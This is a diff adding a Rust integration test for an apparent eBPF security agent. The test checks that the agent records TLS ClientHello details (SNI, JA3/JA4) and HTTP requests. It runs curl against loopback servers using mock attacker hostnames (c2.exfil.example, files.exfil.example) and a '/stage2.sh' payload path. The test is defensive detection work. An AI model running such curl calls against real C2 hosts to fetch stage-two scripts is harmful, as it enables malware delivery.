@@ -3085,6 +3085,185 @@ fn dns_lookups_are_recorded_with_their_answers() {
     kernel.check();
 }
 
+/// What a connection asked for by name, with no DNS lookup seen (curl is told the address):
+/// curl's TLS ClientHello (its server name, version, protocols and fingerprints) and its plain
+/// HTTP request (method, URL, user agent), each for curl, found by `--class` and `--domain`, in
+/// the text, the XML and SQL.
+#[test]
+fn tls_hellos_and_http_requests_name_what_a_connection_asked_for() {
+    use std::io::{Read, Write};
+    let Some((_serial, kernel)) =
+        begin("tls_hellos_and_http_requests_name_what_a_connection_asked_for")
+    else {
+        return;
+    };
+    let mut agent = Agent::start("");
+    let status = agent.status();
+    let ebpf = status_source(&status, "ebpf").expect("the ebpf source");
+    let detail = ebpf["detail"].as_str().unwrap();
+    assert!(detail.contains("TLS hellos and HTTP requests"), "{detail}");
+    // Servers of our own on loopback: one reads the hello and hangs up (the handshake
+    // fails, which is no matter), one answers the request.
+    let tls_server = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
+    let http_server = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
+    let (tls_port, http_port) = (
+        tls_server.local_addr().unwrap().port(),
+        http_server.local_addr().unwrap().port(),
+    );
+    let serving = std::thread::spawn(move || {
+        let (mut hello, _) = tls_server.accept().unwrap();
+        let mut buf = [0u8; 4096];
+        let _ = hello.read(&mut buf);
+        drop(hello);
+        let (mut request, _) = http_server.accept().unwrap();
+        let _ = request.read(&mut buf);
+        request
+            .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
+            .unwrap();
+    });
+    let curl = |url: String, name: &str, port: u16| {
+        Command::new("curl")
+            .args(["-sk", "--max-time", "10", "--resolve"])
+            .arg(format!("{name}:{port}:127.0.0.1"))
+            .arg(url)
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("curl (scripts/deps installs it)")
+    };
+    let tls_curl = curl(
+        format!("https://c2.exfil.example:{tls_port}/"),
+        "c2.exfil.example",
+        tls_port,
+    );
+    let tls_pid = u64::from(tls_curl.id());
+    let _ = tls_curl.wait_with_output();
+    let http_curl = curl(
+        format!("http://files.exfil.example:{http_port}/stage2.sh?k=1"),
+        "files.exfil.example",
+        http_port,
+    );
+    let http_pid = u64::from(http_curl.id());
+    let fetched = http_curl.wait_with_output().unwrap();
+    assert_eq!(fetched.stdout, b"ok");
+    serving.join().unwrap();
+    let events = agent.wait_for("curl's hello and request", |ev| {
+        has(ev, "tls_hello", |e| pid_of(e) == tls_pid)
+            && has(ev, "http_request", |e| pid_of(e) == http_pid)
+    });
+    let hello = the(&events, "tls_hello", "curl's hello", |e| {
+        pid_of(e) == tls_pid
+    });
+    assert!(
+        hello["process"]["executable"]
+            .as_str()
+            .is_some_and(|exe| exe.ends_with("/curl")),
+        "{hello}"
+    );
+    assert_eq!(
+        hello["tls"]["client"]["server_name"], "c2.exfil.example",
+        "{hello}"
+    );
+    assert_eq!(
+        hello["destination"]["domain"], "c2.exfil.example",
+        "{hello}"
+    );
+    assert_eq!(hello["destination"]["ip"], "127.0.0.1", "{hello}");
+    assert_eq!(hello["destination"]["port"], tls_port, "{hello}");
+    assert_eq!(hello["network"]["direction"], "egress", "{hello}");
+    // curl offers TLS 1.3 and HTTP/1.1 at least, a server name ('d'), over TCP ('t').
+    assert_eq!(hello["tls"]["version"], "1.3", "{hello}");
+    let alpn = &hello["warden"]["network"]["alpn"];
+    assert!(
+        alpn.as_array()
+            .is_some_and(|offered| offered.iter().any(|p| p == "http/1.1")),
+        "{hello}"
+    );
+    let ja4 = hello["tls"]["client"]["ja4"].as_str().unwrap();
+    assert!(ja4.starts_with("t13d") && ja4.len() == 36, "{hello}");
+    let ja3 = hello["tls"]["client"]["ja3"].as_str().unwrap();
+    assert!(
+        ja3.len() == 32 && ja3.bytes().all(|b| b.is_ascii_hexdigit()),
+        "{hello}"
+    );
+    // The connection its connect recorded: the same ends.
+    let connect = the(&events, "connect", "curl's TLS connection", |e| {
+        pid_of(e) == tls_pid && e["destination"]["port"] == tls_port
+    });
+    assert_eq!(
+        connect["source"]["port"], hello["source"]["port"],
+        "{connect}"
+    );
+    assert_eq!(entity_of(connect), entity_of(hello));
+    let request = the(&events, "http_request", "curl's request", |e| {
+        pid_of(e) == http_pid
+    });
+    assert_eq!(request["http"]["request"]["method"], "GET", "{request}");
+    let url = format!("http://files.exfil.example:{http_port}/stage2.sh?k=1");
+    assert_eq!(request["url"]["full"], url.as_str(), "{request}");
+    assert_eq!(request["url"]["domain"], "files.exfil.example", "{request}");
+    let agent_name = request["user_agent"]["original"]
+        .as_str()
+        .unwrap_or_default();
+    assert!(agent_name.starts_with("curl/"), "{request}");
+
+    let pids = format!("{tls_pid},{http_pid}");
+    let text = agent.events_output(&["--pid", &pids, "--class", "tls,http"], "text");
+    assert_eq!(text.lines().count(), 2, "{text}");
+    assert!(text.contains("sni=c2.exfil.example tls=1.3"), "{text}");
+    assert!(text.contains(&format!("ja4={ja4}")), "{text}");
+    assert!(
+        text.contains(&format!("GET {url} ua=\"{agent_name}\"")),
+        "{text}"
+    );
+    let xml = agent.events_output(&["--pid", &pids, "--class", "tls,http"], "xml");
+    let doc = roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("{e}: {xml}"));
+    let tls = doc
+        .descendants()
+        .find(|n| n.has_tag_name("tls"))
+        .unwrap_or_else(|| panic!("{xml}"));
+    assert_eq!(
+        (tls.attribute("server_name"), tls.attribute("ja4")),
+        (Some("c2.exfil.example"), Some(ja4))
+    );
+    let http = doc
+        .descendants()
+        .find(|n| n.has_tag_name("http"))
+        .unwrap_or_else(|| panic!("{xml}"));
+    assert_eq!(http.attribute("url"), Some(url.as_str()));
+    // --domain finds both by the names they asked for, from the store and from JSON lines.
+    let named = agent.events_output(&["--domain", "*.exfil.example", "--pid", &pids], "json");
+    let mut actions: Vec<String> = named
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap())
+        .map(|e| e["event"]["action"].as_str().unwrap().to_owned())
+        .collect();
+    actions.sort();
+    assert_eq!(actions, ["http_request", "tls_hello"], "{named}");
+    let every = tempfile::NamedTempFile::new().unwrap();
+    std::fs::write(every.path(), agent.events_output(&["--pid", &pids], "json")).unwrap();
+    let offline = agent.events_output(
+        &["--input", &s(every.path()), "--domain", "c2.exfil.*"],
+        "json",
+    );
+    assert_eq!(offline.lines().count(), 1, "{offline}");
+    let rows = agent.query_rows(&format!(
+        "SELECT action, tls_server_name, tls_version, ja4, http_method, http_url, \
+         http_user_agent LIKE 'curl/%' FROM socket_events \
+         WHERE pid IN ({pids}) AND action IN ('tls_hello', 'http_request') ORDER BY action"
+    ));
+    assert_eq!(
+        rows,
+        [
+            format!("http_request,,,,GET,{url},1"),
+            format!("tls_hello,c2.exfil.example,1.3,{ja4},,,"),
+        ]
+    );
+    agent.stop();
+    kernel.check();
+}
+
 fn unconnected_datagrams_are_recorded(test: &str, network: &str, syscall: Option<&str>) {
     use std::net::UdpSocket;
     let Some((_serial, kernel)) = begin(test) else {
